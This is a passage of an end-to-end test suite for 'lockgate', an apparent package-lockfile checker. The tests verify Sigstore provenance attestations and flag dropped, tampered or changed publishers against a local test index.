    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"verdict": "block", "findings": [
        finding("provenance.dropped", severity="high", package=BENIGN, version="1.1")]})
    # Through the Simple API: the index root is what precedes /simple/.
    res = t.check(repo, "--trusted-root", root, index_url=srv.simple_url)
    t.expect(res, rc=1, subset={"findings": [finding("provenance.dropped")]})
    t.expect_requested(srv, "/integrity/benign-pkg/1.1/%s/provenance" % a2.filename)


@case
def case_provenance_tampered(t):
    """One flipped signature byte: the attestation does not verify."""
    _, sig, root = _sigstore(t)
    srv = t.server()
    a1 = _prov_release(t, srv, sig, "1.0", repository="example/project", tamper=True)
    repo = t.repo({"README": "x\n"}, {"requirements.txt": pin(a1, BENIGN, "1.0") + "\n"})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"verdict": "block", "findings": [
        finding("provenance.invalid", severity="critical", file=a1.filename)]})
    # The shipped production root does not know this private Sigstore.
    a2 = _prov_release(t, srv, sig, "1.1", repository="example/project")
    repo.commit({"requirements.txt": pin(a2, BENIGN, "1.1") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"findings": [finding("provenance.invalid", version="1.1")]})


@case
def case_provenance_required(t):
    """Required but missing is high; absent and not required says nothing."""
    _, sig, root = _sigstore(t)
    srv = t.server()
    a1 = _prov_release(t, srv, sig, "1.0")
    repo = t.repo({"README": "x\n"}, {"requirements.txt": pin(a1, BENIGN, "1.0") + "\n"})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass"},
             no_findings=[finding("provenance.missing"), finding("provenance.dropped"),
                          finding("provenance.new-publisher")])
    t.expect_requested(srv, "/integrity/benign-pkg/1.0/")
    res = t.check(repo, "--trusted-root", root, "--require-provenance", "Benign_Pkg",
                  index_url=srv.index_url)
    t.expect(res, rc=1, subset={"findings": [
        finding("provenance.missing", severity="high", package=BENIGN)]})
    repo.commit({".lockgate.toml": '[provenance]\nrequire-all = true\n'}, "require")
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url, base="HEAD~2")
    t.expect(res, rc=1, subset={"findings": [finding("provenance.missing")]})
    res = t.check(repo, "--no-provenance", index_url=srv.index_url, base="HEAD~2")
    t.expect(res, rc=0, no_findings=[finding("provenance.missing")])


@case
def case_provenance_lazy_wheel(t):
    """A wheel read lazily is verified against the index digest the lock
    pins (its bytes are never all read)."""
    _, sig, root = _sigstore(t)
    srv = t.server()
    w = L.big_wheel("lazy-pkg", "1.0")
    srv.add("lazy-pkg", "1.0", [w])
    srv.add_provenance("lazy-pkg", "1.0", w.filename,
                       sig.attest(w.filename, w.sha256, repository="example/lazy"))
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(w, "lazy-pkg", "1.0") + "\n"})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"artifacts": [{"read": "lazy"}], "findings": [
        finding("provenance.new-publisher", file=w.filename)]})


@case
def case_provenance_unknown_kind(t):
    """A publisher kind without a verification policy is no forgery: not
    provenance.invalid, and nothing at all when not pinned or required."""
    _, sig, root = _sigstore(t)
    srv = t.server()
    art = benign("1.0")
    srv.add(BENIGN, "1.0", [art])
    doc = json.loads(sig.attest(art.filename, art.sha256))
    doc["attestation_bundles"][0]["publisher"] = {"kind": "SomeFutureCI", "claims": None}
    srv.add_provenance(BENIGN, "1.0", art.filename, json.dumps(doc))
    repo = t.repo({"README": "x\n"}, {"requirements.txt": pin(art, BENIGN, "1.0") + "\n"})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=0, no_findings=[finding("provenance.invalid"),
                                     finding("provenance.new-publisher")])
    res = t.check(repo, "--trusted-root", root, "--require-provenance", BENIGN,
                  index_url=srv.index_url)
    t.expect(res, rc=1, subset={"findings": [finding("provenance.missing")]})


@case
def case_provenance_simple_field(t):
    """The Simple API page's provenance URL is used instead of the
    Integrity API path."""
    _, sig, root = _sigstore(t)
    srv = t.server()
    art = benign("1.0")
    srv.add(BENIGN, "1.0", [art])
    srv.add_provenance(BENIGN, "1.0", art.filename,
                       sig.attest(art.filename, art.sha256), simple_field=True)
    repo = t.repo({"README": "x\n"}, {"requirements.txt": pin(art, BENIGN, "1.0") + "\n"})
    res = t.check(repo, "--trusted-root", root, index_url=srv.simple_url)
    t.expect(res, rc=0, subset={"findings": [finding("provenance.new-publisher")]})
    t.expect_requested(srv, "/attest/%s.provenance" % art.filename)
    t.expect_requested(srv, "/integrity/", present=False)


@case
def case_provenance_dropped_since_previous(t):
    """No pin: 1.0 had a verified provenance and 1.1 has none, which the
    old version's own provenance shows (provenance dropped since 1.0)."""
    _, sig, root = _sigstore(t)
    srv = t.server()
    a1 = _prov_release(t, srv, sig, "1.0", repository="example/project")
    a2 = _prov_release(t, srv, sig, "1.1")
    repo = t.repo({"requirements.txt": pin(a1, BENIGN, "1.0") + "\n"},
                  {"requirements.txt": pin(a2, BENIGN, "1.1") + "\n"})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"verdict": "block", "findings": [
        finding("provenance.dropped", severity="high", package=BENIGN, version="1.1",
                file=a2.filename)]})
    msg = _prov_findings(res)[0]["message"]
    if "provenance dropped since 1.0" not in msg or "example/project" not in msg:
        raise Fail("the message does not name the old version: %r" % msg)
    t.expect_requested(srv, "/integrity/benign-pkg/1.0/%s/provenance" % a1.filename)
    # A new install (no old version) without provenance says nothing.
    repo2 = t.repo({"README": "x\n"}, {"requirements.txt": pin(a2, BENIGN, "1.1") + "\n"})
    res = t.check(repo2, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=0, no_findings=[finding("provenance.dropped")])


@case
def case_provenance_publisher_changed_since_previous(t):
    """No pin: 1.0 was built by example/project, 1.1 by intruder/fork; a
    downgrade compares the same way."""
    _, sig, root = _sigstore(t)
    srv = t.server()
    a1 = _prov_release(t, srv, sig, "1.0", repository="example/project")
    a2 = _prov_release(t, srv, sig, "1.1", repository="intruder/fork")
    repo = t.repo({"requirements.txt": pin(a1, BENIGN, "1.0") + "\n"},
                  {"requirements.txt": pin(a2, BENIGN, "1.1") + "\n"},
                  {"requirements.txt": pin(a1, BENIGN, "1.0") + "\n"})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url, base="HEAD~2",
                  head="HEAD~1")
    t.expect(res, rc=1, subset={"verdict": "block", "findings": [
        finding("provenance.publisher-changed", severity="high", package=BENIGN,
                version="1.1", file=a2.filename)]})
    msg = [f for f in _prov_findings(res)
           if f["rule"] == "provenance.publisher-changed"][0]["message"]
    if "intruder/fork" not in msg or "example/project" not in msg or "1.0" not in msg:
        raise Fail("the message does not name both repositories: %r" % msg)
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"findings": [
        finding("provenance.publisher-changed", version="1.0", file=a1.filename)]})
    # With a pin, the pin is authoritative: one finding, not two.
    repo2 = t.repo({"requirements.txt": pin(a1, BENIGN, "1.0") + "\n",
                    PIN_FILE: _pin_file()},
                   {"requirements.txt": pin(a2, BENIGN, "1.1") + "\n"})
    res = t.check(repo2, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=1)
    n = [f["rule"] for f in _prov_findings(res)].count("provenance.publisher-changed")
    if n != 1:
        raise Fail("%d publisher-changed findings with a pin\n%s" % (n, res.describe()))


@case
def case_provenance_same_publisher_since_previous(t):
    """Near case: 1.0 and 1.1 built by the same repository (its name in
    another case): no dropped or changed finding."""
    _, sig, root = _sigstore(t)
    srv = t.server()
    a1 = _prov_release(t, srv, sig, "1.0", repository="example/project")
    a2 = _prov_release(t, srv, sig, "1.1", repository="Example/Project")
    repo = t.repo({"requirements.txt": pin(a1, BENIGN, "1.0") + "\n"},
                  {"requirements.txt": pin(a2, BENIGN, "1.1") + "\n"})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "findings": [
        finding("provenance.new-publisher", version="1.1")]},
        no_findings=[finding("provenance.dropped"), finding("provenance.publisher-changed")])
    t.expect_requested(srv, "/integrity/benign-pkg/1.0/%s/provenance" % a1.filename)


@case
def case_provenance_pin_changed(t):
    """A change that edits the pin and the publisher together: the edit is
    reported and the release is compared with the base revision's pin;
    removing a pin is reported too; adding one is not."""
    _, sig, root = _sigstore(t)
    srv = t.server()
    a1 = _prov_release(t, srv, sig, "1.0", repository="example/project")
    a2 = _prov_release(t, srv, sig, "1.1", repository="intruder/fork")
    repo = t.repo({"requirements.txt": pin(a1, BENIGN, "1.0") + "\n", PIN_FILE: _pin_file()},
                  {"requirements.txt": pin(a2, BENIGN, "1.1") + "\n",
                   PIN_FILE: _pin_file(repository="intruder/fork")})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"verdict": "block", "findings": [
        finding("provenance.pin-changed", severity="high", package=BENIGN,
                lockfile=PIN_FILE),
        finding("provenance.publisher-changed", severity="high", version="1.1")]})
    # Removing the pin: reported, and the base pin still judges 1.1.
    repo = t.repo({"requirements.txt": pin(a1, BENIGN, "1.0") + "\n", PIN_FILE: _pin_file()},
                  {"requirements.txt": pin(a2, BENIGN, "1.1") + "\n",
                   PIN_FILE: json.dumps({"version": 1, "publishers": {}}) + "\n"})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"findings": [
        finding("provenance.pin-changed", package=BENIGN),
        finding("provenance.publisher-changed", version="1.1")]})
    if "removes the pin" not in _prov_findings(res)[0]["message"]:
        raise Fail("the removal is not said\n" + res.describe())
    # Near case: a pin only added (and the "since" of nothing edited).
    a3 = _prov_release(t, srv, sig, "1.2", repository="example/project")
    repo = t.repo({"requirements.txt": pin(a1, BENIGN, "1.0") + "\n"},
                  {"requirements.txt": pin(a3, BENIGN, "1.2") + "\n", PIN_FILE: _pin_file()})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "findings": [
        finding("provenance.verified", version="1.2")]},
        no_findings=[finding("provenance.pin-changed")])
    # Near case: only "since" edited, the publisher kept.
    repo = t.repo({"requirements.txt": pin(a1, BENIGN, "1.0") + "\n", PIN_FILE: _pin_file()},
                  {"requirements.txt": pin(a3, BENIGN, "1.2") + "\n",
                   PIN_FILE: _pin_file().replace('"since": "1.0"', '"since": "1.2"')})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"findings": [finding("provenance.verified", version="1.2")]},
             no_findings=[finding("provenance.pin-changed")])


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--bin", help="path to the lockgate binary")
    ap.add_argument("--case", action="append", help="case name (repeatable); default: all")
    ap.add_argument("--list", action="store_true", help="print case names and exit")
    ap.add_argument("--keep", action="store_true", help="keep temp dirs of failed cases")
    args = ap.parse_args()
    if args.list:
        print("\n".join(CASES))
        return 0
    if not args.bin:
        ap.error("--bin is required")
    binary = os.path.abspath(args.bin)
    names = args.case or list(CASES)
    unknown = [n for n in names if n not in CASES]
    if unknown:
        ap.error("unknown case(s): %s (see --list)" % ", ".join(unknown))
    if not os.access(binary, os.X_OK):
        print("FAIL: %s is not an executable" % binary)
        print("0 passed, %d failed" % len(names))
        return 1
    for tool in ("openssl", "git"):
        if not shutil.which(tool):
            print("SKIP: %s not found" % tool)
            return 77
    if not (os.environ.get("LG_NGINX") or shutil.which("nginx") or os.path.exists("/usr/sbin/nginx")):
        print("SKIP: nginx not found (set LG_NGINX)")
        return 77

    passed, failed, skipped = [], [], []
    run_dir = tempfile.mkdtemp(prefix="lg-e2e-")
    keep = False
    try:
        os.makedirs(os.path.join(run_dir, "ca"))
        ca = L.TestCA(os.path.join(run_dir, "ca"))
        for name in names:
            tmp = tempfile.mkdtemp(prefix=name + "-", dir=run_dir)
            t = Case(name, binary, ca, tmp)
            t0 = time.monotonic()
            try:
                CASES[name](t)
                passed.append(name)
                print("PASS %s (%.1fs)" % (name, time.monotonic() - t0), flush=True)
            except Skip as e:
                skipped.append(name)
                print("SKIP %s: %s" % (name, e), flush=True)
            except Fail as e:
                failed.append(name)
                print("FAIL %s\n%s" % (name, _indent(str(e))), flush=True)
            except Exception:
                failed.append(name)
                print("FAIL %s (harness error)\n%s" % (name, _indent(traceback.format_exc())),
                      flush=True)
            finally:
                t.close()
            if name in failed and args.keep:
                keep = True
                print("    kept %s" % tmp)
            elif os.path.isdir(tmp):
                shutil.rmtree(tmp, ignore_errors=True)
    finally:
        if not keep:
            shutil.rmtree(run_dir, ignore_errors=True)
    if failed:
        print("failed: " + " ".join(failed))
    if skipped:
        print("skipped: " + " ".join(skipped))
    print("%d passed, %d failed" % (len(passed), len(failed)))
    if failed:
        return 1
    return 77 if skipped and not passed else 0


if __name__ == "__main__":
    sys.exit(main())
